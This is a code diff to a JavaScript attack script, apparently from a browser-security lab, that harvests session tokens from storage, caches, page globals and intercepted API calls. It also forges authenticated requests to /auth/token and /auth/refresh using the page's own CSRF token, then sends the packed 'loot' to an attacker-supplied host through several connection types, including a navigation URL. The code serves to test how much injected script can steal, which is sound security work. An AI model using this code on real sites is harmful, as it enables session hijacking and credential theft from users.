@@ -8,13 +8,13 @@ export function run(client) {
   sessionStorage.setItem("lab", id); // so that the tab finds home from any page of this origin
   const at = location.pathname.startsWith("/lab/open/") ? "open" : "victim"; // however it came here
   return travel(at, {
-    "read-tokens/0": () => read(),
-    "send-policy/0": ({ to }) => send(to, "policy "),
+    "read-tokens/0": () => read(client),
+    "send-policy/0": ({ to }) => send(client, to, "policy "),
     "send-policy/1": async ({ page }) => {
-      location.href = `${page}&by=${encodeURIComponent("policy navigation")}&loot=${encodeURIComponent(packed(await read()))}`;
+      location.href = `${page}&by=${encodeURIComponent("policy navigation")}&loot=${encodeURIComponent(packed(await read(client)))}`;
       return leaving;
     },
-    "send-open/0": ({ to }) => send(to, "open "),
+    "send-open/0": ({ to }) => send(client, to, "open "),
     "live-session/0": ({ email }) => write(client, email),
     "edit-role/0": () => editRole(client),
     "forge-cookie/0": nothing,
@@ -84,8 +84,7 @@ function readable() {
 /** Not an attack: signs out, as the app does. */
 async function leave(client) {
   if (client.end) return client.end();
-  const { csrf_token = "1" } = await client.session().catch(() => ({}));
-  const { status } = await fetch("/auth/logout", { method: "POST", headers: { "X-CSRF-Token": csrf_token, Accept: "application/json" } });
+  const { status } = await fetch("/auth/logout", { method: "POST", headers: { "X-CSRF-Token": await proof(client), Accept: "application/json" } });
   return { status };
 }
 
@@ -95,7 +94,7 @@ async function write(client, email) {
 }
 
 /** Looks everywhere that script can look, and returns what it found: where and what. */
-async function read() {
+async function read(client) {
   const overheard = await listenIn(async () => {
     document.getElementById("reload").click(); // the app calls its API, as it does all day
     await new Promise((done) => setTimeout(done, 400));
@@ -108,8 +107,8 @@ async function read() {
     "Cache storage": cached,
     "the page and its globals": () => [document.documentElement.outerHTML, ...Object.keys(window).map((key) => text(window[key]))].join("\n"),
     "the app's own calls": () => overheard.join("\n"),
-    "POST /auth/token": () => asked("/auth/token", "POST"),
-    "POST /auth/refresh": () => asked("/auth/refresh", "POST"),
+    "POST /auth/token": async () => asked("/auth/token", "POST", await proof(client)),
+    "POST /auth/refresh": async () => asked("/auth/refresh", "POST", await proof(client)),
     "GET /auth/session": () => asked("/auth/session", "GET"),
     "GET /api/me": () => asked("/api/me", "GET"),
   };
@@ -188,13 +187,16 @@ function text(value) {
   }
 }
 
-async function asked(path, method) {
-  return (await fetch(path, { method, headers: { "X-CSRF-Token": "1" } })).text();
+async function asked(path, method, csrf = "1") {
+  return (await fetch(path, { method, headers: { "X-CSRF-Token": csrf } })).text();
 }
 
+/** What the page's writes bring to prove that they were meant: script can have it, too. */
+const proof = async (client) => (await client.session().catch(() => ({}))).csrf_token ?? "1";
+
 /** Sends the loot to the attacker's host by every kind of connection that a page can make. */
-async function send(to, prefix) {
-  const loot = packed(await read());
+async function send(client, to, prefix) {
+  const loot = packed(await read(client));
   const address = (by) => `${to}&by=${encodeURIComponent(prefix + by)}&loot=${encodeURIComponent(loot)}`;
   const element = (name, attributes) =>
     new Promise((done) => {
